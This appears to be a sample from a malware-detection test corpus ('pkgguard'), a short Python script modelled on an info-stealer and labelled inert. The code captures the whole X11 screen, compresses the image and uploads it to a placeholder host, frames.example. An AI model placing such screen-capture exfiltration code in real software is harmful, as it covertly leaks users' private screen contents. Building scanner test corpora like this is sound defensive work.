# pkgguard corpus 459 (screenshot), modelled on [stealer-profile]; inert, never run.
import zlib

import requests
from Xlib import X, display

root = display.Display().screen().root
geo = root.get_geometry()
raw = root.get_image(0, 0, geo.width, geo.height, X.ZPixmap, 0xFFFFFFFF)
requests.put(
    "https://frames.example/v1/upload",
    data=zlib.compress(raw.data),
    headers={"X-Size": f"{geo.width}x{geo.height}"},
    timeout=15,
)
